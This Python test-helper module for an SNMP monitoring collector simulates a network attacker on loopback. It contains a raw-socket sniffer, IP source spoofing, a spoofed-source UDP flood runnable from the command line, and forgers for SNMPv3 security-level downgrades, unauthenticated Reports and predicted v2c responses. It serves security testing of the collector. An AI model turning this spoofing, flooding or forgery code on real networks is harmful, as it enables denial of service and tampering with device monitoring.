"""An attacker on the monitor's network, played on loopback (root needed).

    with DelayRelay(("127.0.0.1", agent.port), delay=0.03) as relay:   # a far device
        target = Target(*relay.address, credentials)                      # poll the relay
        with Attacker(relay, forge=downgraded_response(values)) as attacker:
            ...                                 # every request the monitor sends to the
                                                # relay is answered first by a forgery

- `DelayRelay`: a UDP relay in front of a real agent; requests pass at once, answers come
  back `delay` seconds later: the round trip to a device across the city (tc netem is not
  available here). The monitor polls the relay's address.
- `Sniffer`: what a blind attacker on the same segment sees: an AF_PACKET socket on `lo`
  with a kernel BPF filter (UDP to one port), so it reads the monitor's requests (their
  source port, msgID, request-id, engine ID, user, clock: all in clear) and nothing else
  of the loopback traffic other tests make.
- `send_spoofed`: a datagram whose IPv4 source is the relay's address and port, built by
  hand (IP_HDRINCL raw socket, UDP header with no checksum), so it reaches the monitor's
  socket as if the device had sent it.
- `Attacker`: sniffs the requests to a relay and answers each with the datagrams its
  `forge(request)` makes, from the relay's address, before the genuine answer arrives.

Forgers build what an attacker without the keys can: `downgraded_response` (noAuthNoPriv
Response with chosen values), `unauthenticated_report` (a Report naming any usmStats
counter, with any engine boots/time), `predicted_responses` (v2c answers for guessed
request-ids).
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import heapq
import ipaddress
import itertools
import os
import selectors
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from collector.snmp import ber, message

Address = tuple[str, int]
Varbind = tuple[str, int, object]  # (dotted OID, BER tag, value)

USM_STATS = "1.3.6.1.6.3.15.1.1."
NOT_IN_TIME_WINDOWS = USM_STATS + "2.0"
UNKNOWN_ENGINE_IDS = USM_STATS + "4.0"
WRONG_DIGESTS = USM_STATS + "5.0"


# --------------------------------------------------------------------------- relay


class DelayRelay:
    """A UDP relay on 127.0.0.1 in front of `agent`: answers come back `delay` s late."""

    def __init__(self, agent: Address, delay: float = 0.03) -> None:
        self.agent = agent
        self.delay = delay
        self._listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._listen.bind(("127.0.0.1", 0))
        self._listen.setblocking(False)
        self.address: Address = self._listen.getsockname()
        self._upstream: dict[Address, socket.socket] = {}
        self._pending: list[tuple[float, int, Address, bytes]] = []
        self._order = itertools.count()
        self._selector = selectors.DefaultSelector()
        self._selector.register(self._listen, selectors.EVENT_READ, None)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="delay-relay", daemon=True)
        self.requests = 0
        self.answers = 0

    @property
    def host(self) -> str:
        return self.address[0]

    @property
    def port(self) -> int:
        return self.address[1]

    def __enter__(self) -> DelayRelay:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)
        self._selector.close()
        for sock in [self._listen, *self._upstream.values()]:
            sock.close()

    def _run(self) -> None:
        while not self._stop.is_set():
            now = time.monotonic()
            while self._pending and self._pending[0][0] <= now:
                _, _, client, data = heapq.heappop(self._pending)
                with contextlib.suppress(OSError):
                    self._listen.sendto(data, client)
                    self.answers += 1
            wait = min(0.05, self._pending[0][0] - now) if self._pending else 0.05
            for key, _ in self._selector.select(max(wait, 0.0)):
                sock: socket.socket = key.fileobj  # type: ignore[assignment]
                client = key.data
                try:
                    data, sender = sock.recvfrom(65535)
                except OSError:
                    continue
                if client is None:  # a request from a client: on to the agent, at once
                    self.requests += 1
                    up = self._upstream.get(sender)
                    if up is None:
                        up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                        up.bind(("127.0.0.1", 0))
                        up.setblocking(False)
                        self._upstream[sender] = up
                        self._selector.register(up, selectors.EVENT_READ, sender)
                    with contextlib.suppress(OSError):
                        up.sendto(data, self.agent)
                elif sender == self.agent:  # the agent's answer: back to its client, late
                    heapq.heappush(self._pending,
                                   (time.monotonic() + self.delay, next(self._order), client,
                                    data))


# --------------------------------------------------------------------------- sniffing

_ETH_P_ALL = 0x0003
_SO_ATTACH_FILTER = 26
_PACKET_OUTGOING = 4


def _udp_to_port_filter(port: int) -> list[tuple[int, int, int, int]]:
    """Classic BPF: IPv4, UDP, destination port `port` (loopback frames carry a 14-octet
    Ethernet header). (code, jt, jf, k) as in struct sock_filter."""
    return [
        (0x28, 0, 0, 12),  # ldh [12]            ethertype
        (0x15, 0, 6, 0x0800),  # jeq IPv4, else drop
        (0x30, 0, 0, 23),  # ldb [23]            IP protocol
        (0x15, 0, 4, 17),  # jeq UDP, else drop
        (0xB1, 0, 0, 14),  # ldxb 4*([14]&0xf)   IP header length
        (0x48, 0, 0, 16),  # ldh [x+16]          UDP destination port
        (0x15, 0, 1, port),  # jeq port, else drop
        (0x06, 0, 0, 0xFFFF),  # ret: keep the packet
        (0x06, 0, 0, 0),  # ret: drop
    ]


@dataclass(frozen=True)
class Sniffed:
    source: Address  # who sent it (the monitor's socket)
    dest: Address  # where it went (the relay)
    payload: bytes


class Sniffer:
    """Copies of the UDP datagrams sent to `port` on loopback, each handed to
    `on_datagram` (in the sniffer's thread) as it passes."""

    def __init__(self, port: int, on_datagram: Callable[[Sniffed], None]) -> None:
        self.port = port
        self.on_datagram = on_datagram
        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
        program = _udp_to_port_filter(port)
        self._filter = ctypes.create_string_buffer(
            b"".join(struct.pack("HBBI", *insn) for insn in program))
        fprog = struct.pack("HL", len(program), ctypes.addressof(self._filter))
        self._sock.setsockopt(socket.SOL_SOCKET, _SO_ATTACH_FILTER, fprog)
        self._sock.bind(("lo", 0))
        self._sock.settimeout(0.05)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="sniffer", daemon=True)
        self.seen = 0

    def __enter__(self) -> Sniffer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)
        self._sock.close()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                frame, meta = self._sock.recvfrom(65535)
            except TimeoutError:
                continue
            except OSError:
                return
            if meta[2] == _PACKET_OUTGOING:  # loopback shows each packet twice
                continue
            ip = frame[14:]
            if len(ip) < 28 or ip[0] >> 4 != 4:
                continue
            ihl = (ip[0] & 0x0F) * 4
            src_port, dst_port = struct.unpack("!HH", ip[ihl : ihl + 4])
            if dst_port != self.port:
                continue
            self.seen += 1
            self.on_datagram(Sniffed((socket.inet_ntoa(ip[12:16]), src_port),
                                     (socket.inet_ntoa(ip[16:20]), dst_port),
                                     bytes(ip[ihl + 8 :])))


# --------------------------------------------------------------------------- spoofing


class Spoofer:
    """Sends UDP datagrams with any IPv4 source address and port (IP_HDRINCL)."""

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def close(self) -> None:
        self._sock.close()

    def send(self, source: Address, dest: Address, payload: bytes) -> None:
        self._sock.sendto(ip_udp(source, dest, payload), (dest[0], 0))


def ip_udp(source: Address, dest: Address, payload: bytes) -> bytes:
    """An IPv4 packet carrying one UDP datagram from `source` to `dest`."""
    udp_length = 8 + len(payload)
    # UDP checksum 0: "no checksum", allowed over IPv4 (RFC 768)
    udp = struct.pack("!HHHH", source[1], dest[1], udp_length, 0) + payload
    # the kernel fills in the IP header checksum (and the id, left 0) under IP_HDRINCL
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, 0, 0x4000, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(source[0]),
                         socket.inet_aton(dest[0]))
    return header + udp


def send_spoofed(source: Address, dest: Address, payload: bytes) -> None:
    spoofer = Spoofer()
    try:
        spoofer.send(source, dest, payload)
    finally:
        spoofer.close()


def can_spoof() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0


def flood(dest: Address, payload: bytes, sources: Sequence[str], seconds: float,
          port: int = 40000) -> int:
    """Send `payload` round-robin from every source for `seconds`, as fast as one core
    goes (pausing only when the socket's buffer is full); answers how many were sent."""
    packets = [ip_udp((s, port), dest, payload) for s in sources]
    sent = 0
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
        for packet in itertools.cycle(packets):
            if sent % 256 == 0 and time.monotonic() >= deadline:
                break
            try:
                sock.sendto(packet, (dest[0], 0))
                sent += 1
            except OSError:  # the buffer is full (BlockingIOError among them): wait a little
                time.sleep(0.0005)
    return sent


def addresses(network: str, count: int) -> list[str]:
    hosts = ipaddress.ip_network(network).hosts()
    return [str(a) for a in itertools.islice(hosts, count)]


def main(argv: list[str] | None = None) -> int:
    """A flood from a subprocess:

        python -m tests.helpers.spoof --to 127.0.0.1:1162 --payload-hex 30... \\
            --sources 127.66.0.0/21 --count 2000 --seconds 5
    """
    parser = argparse.ArgumentParser(description="UDP flood with forged sources")
    parser.add_argument("--to", required=True)
    parser.add_argument("--payload-hex", required=True)
    parser.add_argument("--sources", required=True, help="a network: its first COUNT hosts")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args(argv)
    host, _, port = args.to.rpartition(":")
    sent = flood((host, int(port)), bytes.fromhex(args.payload_hex),
                 addresses(args.sources, args.count), args.seconds)
    print(sent)
    return 0


# A forger: the sniffed request -> datagrams to send to its sender, as the relay
Forge = Callable[[Sniffed], Sequence[bytes]]


@dataclass
class Attacker:
    """Answers every request sniffed on its way to `relay` with `forge(request)`, sent from
    the relay's address and port, ahead of the genuine (delayed) answer."""

    relay: DelayRelay
    forge: Forge
    pose_as: Address | None = None  # whose address the forgeries carry (default: relay's)
    forged: int = 0  # datagrams sent
    requests: list[Sniffed] = field(default_factory=list)
    active: bool = True  # False: sniff only
    _spoofer: Spoofer | None = None
    _sniffer: Sniffer | None = None
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __enter__(self) -> Attacker:
        self._spoofer = Spoofer()
        self._sniffer = Sniffer(self.relay.port, self._on_request).__enter__()
        return self

    def __exit__(self, *exc: object) -> None:
        assert self._sniffer is not None and self._spoofer is not None
        self._sniffer.__exit__()
        self._spoofer.close()

    def _on_request(self, request: Sniffed) -> None:
        with self._lock:
            self.requests.append(request)
            if not self.active:
                return
            assert self._spoofer is not None
            source = self.pose_as or self.relay.address
            for datagram in self.forge(request):
                self._spoofer.send(source, request.source, datagram)
                self.forged += 1


# --------------------------------------------------------------------------- forgers


def is_discovery(request: bytes) -> bool:
    """A v3 engine-ID discovery probe (noAuthNoPriv, empty engine ID)."""
    msg = message.parse_v3_message(request)
    return not msg.engine_id and not msg.flags & message.FLAG_AUTH


def _v3_answer(request: bytes, pdu: bytes, *, engine_id: bytes | None = None,
               boots: int | None = None, engine_time: int | None = None) -> bytes:
    """A noAuthNoPriv message answering `request`: same msgID, engine ID, user, clock
    (unless given), a plaintext ScopedPDU around `pdu`."""
    msg = message.parse_v3_message(request)
    engine = msg.engine_id if engine_id is None else engine_id
    params, offset = message.encode_usm_parameters(
        engine, msg.engine_boots if boots is None else boots,
        msg.engine_time if engine_time is None else engine_time, msg.user, b"", b"")
    scoped = message.encode_scoped_pdu(engine, b"", pdu)
    data, _ = message.encode_v3_message(msg.msg_id, 0, params, offset, scoped)
    return data


def v3_request_id_guess(request: bytes) -> int:
    """What an attacker can guess of an encrypted request's request-id: its msgID (they
    were equal before issue 13)."""
    return message.parse_v3_message(request).msg_id


def downgraded_response(varbinds: Sequence[Varbind],
                        request_id: Callable[[bytes], int] = v3_request_id_guess) -> Forge:
    """A noAuthNoPriv Response carrying `varbinds` to every secured request, with the
    request-id `request_id(request)` says (by default the attacker's guess; a test that
    knows the keys can pass the real one, to probe the security-level check alone)."""
    varbind_list = message.encode_typed_varbinds(varbinds)

    def forge(request: Sniffed) -> list[bytes]:
        if is_discovery(request.payload):
            return []
        pdu = message.encode_pdu(ber.RESPONSE, request_id(request.payload), varbind_list)
        return [_v3_answer(request.payload, pdu)]

    return forge


def decrypted_request_id(priv_password: bytes, auth_protocol: str, priv_protocol: str
                         ) -> Callable[[bytes], int]:
    """The real request-id of an authPriv request, read with the keys (no attacker has
    them: an oracle, to test one check at a time)."""
    from collector.snmp import usm

    def read(request: bytes) -> int:
        msg = message.parse_v3_message(request)
        key = usm.priv_key(priv_password, msg.engine_id, auth_protocol, priv_protocol)
        plain = usm.Privacy(priv_protocol, key).decrypt(
            msg.scoped, msg.priv_params, msg.engine_boots, msg.engine_time)
        pdu = message.decode_scoped_pdu(plain).pdu
        assert isinstance(pdu, message.Pdu)
        return pdu.request_id

    return read


def forged_discovery(engine_id: bytes, boots: int, engine_time: int) -> Forge:
    """Answers each engine-ID discovery probe with a Report naming `engine_id`, with the
    given boots and time (any INTEGER; the probe's request-id, read in clear)."""

    def forge(request: Sniffed) -> list[bytes]:
        msg = message.parse_v3_message(request.payload)
        if msg.engine_id or msg.flags & message.FLAG_AUTH:
            return []
        probe = message.decode_scoped_pdu(msg.scoped).pdu
        assert isinstance(probe, message.Pdu)
        vbl = message.encode_typed_varbinds([(UNKNOWN_ENGINE_IDS, ber.COUNTER32, 1)])
        params, offset = message.encode_usm_parameters(engine_id, boots, engine_time, b"",
                                                       b"", b"")
        scoped = message.encode_scoped_pdu(engine_id, b"", message.encode_pdu(
            ber.REPORT, probe.request_id, vbl))
        return [message.encode_v3_message(msg.msg_id, 0, params, offset, scoped)[0]]

    return forge


def unauthenticated_report(counter_oid: str, *, boots: int | None = None,
                           engine_time: int | None = None, engine_id: bytes | None = None,
                           count: int | None = None) -> Forge:
    """A noAuthNoPriv Report of `counter_oid` to every secured request (to the first
    `count` if given), with the engine boots/time/ID given or the request's."""
    sent = itertools.count()

    def forge(request: Sniffed) -> list[bytes]:
        if is_discovery(request.payload):
            return []
        if count is not None and next(sent) >= count:
            return []
        # the counter's value and request-id 0, as an agent reports what it could not read
        vbl = message.encode_typed_varbinds([(counter_oid, ber.COUNTER32, 1)])
        pdu = message.encode_pdu(ber.REPORT, 0, vbl)
        return [_v3_answer(request.payload, pdu, engine_id=engine_id, boots=boots,
                           engine_time=engine_time)]

    return forge


def predicted_responses(varbinds: Sequence[Varbind], ahead: Sequence[int],
                        community: bytes = b"public") -> Forge:
    """For each v2c request seen, Responses for the request-ids an attacker predicts from
    it (its request-id plus each of `ahead`), carrying `varbinds`."""
    varbind_list = message.encode_typed_varbinds(varbinds)
    header = message.community_header(message.V2C, community)

    def forge(request: Sniffed) -> list[bytes]:
        pdu = message.decode_community_message(request.payload).pdu
        assert isinstance(pdu, message.Pdu)
        seen = pdu.request_id
        return [message.encode_community_message(
                    header, message.encode_pdu(ber.RESPONSE, seen + step, varbind_list))
                for step in ahead if 0 < seen + step < 2**31]

    return forge


if __name__ == "__main__":
    sys.exit(main())
